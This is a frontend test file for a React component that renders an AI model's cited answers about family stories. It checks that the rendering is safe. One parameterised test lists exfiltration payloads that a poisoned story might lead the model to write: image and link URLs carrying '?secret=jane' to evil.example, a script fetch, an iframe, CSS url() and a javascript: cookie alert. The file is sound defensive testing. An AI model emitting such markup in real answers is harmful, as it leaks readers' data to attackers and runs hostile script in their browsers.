import { render, screen } from '@testing-library/react';
import { MemoryRouter } from 'react-router-dom';
import { describe, expect, test } from 'vitest';
import { AnswerMarkdown, type AnswerCitation } from './AnswerMarkdown';

const cited: AnswerCitation[] = [
  { n: 1, storyId: 'story-one', title: 'Sunday kitchen' },
  { n: 2, storyId: null, title: null },
];

function renderAnswer(source: string, citations: AnswerCitation[] = cited) {
  return render(
    <MemoryRouter>
      <AnswerMarkdown source={source} citations={citations} />
    </MemoryRouter>,
  );
}

describe('AnswerMarkdown', () => {
  test('keeps formatting and lists, and turns checked citations into links to their stories', () => {
    const { container } = renderAnswer('She made **pierogi** on Sundays [1].\n\n- cabbage\n- mushrooms *from the woods*');
    expect(container.querySelector('strong')).toHaveTextContent('pierogi');
    expect(container.querySelectorAll('li')).toHaveLength(2);
    expect(container.querySelector('em')).toHaveTextContent('from the woods');
    const link = screen.getByRole('link', { name: 'Source 1: Sunday kitchen' });
    expect(link).toHaveAttribute('href', '/stories/story-one');
    expect(link).toHaveTextContent('[1]');
  });

  test('a citation of a story no longer readable is marked unavailable, without a link', () => {
    const { container } = renderAnswer('It was in the garden [2].');
    expect(screen.queryAllByRole('link')).toHaveLength(0);
    expect(container).toHaveTextContent('[2] (story no longer available)');
  });

  test('a number the server did not confirm stays plain text', () => {
    const { container } = renderAnswer('Nobody knows [7].');
    expect(screen.queryAllByRole('link')).toHaveLength(0);
    expect(container).toHaveTextContent('Nobody knows [7].');
  });

  // What a story could tell the model to write, to send what the reader sees elsewhere.
  test.each([
    ['a Markdown image', '![family photo](https://evil.example/x.png?secret=jane)'],
    ['an HTML image', '<img src="https://evil.example/x.png?secret=jane" onerror="alert(1)">'],
    ['a Markdown link', '[read more](https://evil.example/?secret=jane)'],
    ['an HTML link', '<a href="https://evil.example/?secret=jane">read more</a>'],
    ['a javascript: link', '[click](javascript:alert(document.cookie))'],
    ['an autolink', '<https://evil.example/?secret=jane>'],
    ['a bare URL', 'See https://evil.example/?secret=jane for more'],
    ['a reference link hijacking a citation', 'Pierogi [1].\n\n[1]: https://evil.example/?secret=jane'],
    ['a reference image', '![photo][p]\n\n[p]: https://evil.example/p.png'],
    ['an iframe and a script', '<iframe src="https://evil.example"></iframe><script>fetch("https://evil.example")</script>'],
    ['a styled element', '<p style="background:url(https://evil.example/x)">x</p>'],
    ['an SVG image', '<svg><image href="https://evil.example/x.png"></image></svg>'],
  ])('renders no image and no link from %s', (_what, injected) => {
    const { container } = renderAnswer(`The answer. ${injected}`);
    expect(container.querySelector('img, image, svg, iframe, script, video, audio, source, object, embed')).toBeNull();
    for (const link of Array.from(container.querySelectorAll('a'))) {
      expect(link.getAttribute('href')).toBe('/stories/story-one');
    }
    for (const element of Array.from(container.querySelectorAll('*'))) {
      const attributes = Array.from(element.attributes).map((a) => a.name);
      expect(attributes.filter((a) => !['class', 'href', 'aria-label', 'title', 'data-discover'].includes(a))).toEqual([]);
    }
    expect(container.innerHTML).not.toMatch(/evil\.example[^<]*"/);
  });

  test('the hijacked reference still links [1] to the cited story, not to the URL', () => {
    renderAnswer('Pierogi [1].\n\n[1]: https://evil.example/?secret=jane');
    const links = screen.getAllByRole('link');
    expect(links.length).toBeGreaterThan(0);
    for (const link of links) expect(link).toHaveAttribute('href', '/stories/story-one');
  });

  test('HTML in the answer is shown as nothing more than its text', () => {
    const { container } = renderAnswer('<b onclick="x()">bold?</b> <details open>hidden</details>');
    expect(container.querySelector('b, details, [onclick]')).toBeNull();
    expect(container).toHaveTextContent('bold? hidden');
  });
});
